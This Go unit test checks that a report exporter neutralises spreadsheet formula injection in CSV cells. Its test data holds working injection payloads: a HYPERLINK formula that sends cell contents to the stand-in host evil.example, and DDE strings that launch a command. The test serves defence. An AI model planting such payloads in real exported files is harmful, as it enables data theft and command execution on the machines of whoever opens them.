package reportexport

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/servicebot/servicebot"
)

// Issue 15: a report that starts like a formula is written as text, so it
// does not run when the manager opens the CSV in a spreadsheet.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"点击")`,
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	}
	for _, h := range hostile {
		rec := Record{Date: servicebot.NewDate(2026, 11, 23), UserID: "zhangwei", Name: h,
			Customer: h, Location: "成都", Raw: h, Done: []string{"安装调试"}}
		var buf bytes.Buffer
		if err := WriteCSV(&buf, []Record{rec}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, cell := range rows[1] {
			if cell != "" && bytes.ContainsRune([]byte("=+-@\t\r"), rune(cell[0])) {
				t.Errorf("%q: column %s starts %q, a spreadsheet would read a formula", h, rows[0][i], cell[:1])
			}
		}
		if got := rows[1][3]; got != "'"+h {
			t.Errorf("name %q written as %q, want it behind an apostrophe", h, got)
		}
		if rows[0][10] != "地点" || rows[1][10] != "成都" {
			t.Errorf("a harmless cell changed: %s = %q", rows[0][10], rows[1][10])
		}
	}
}
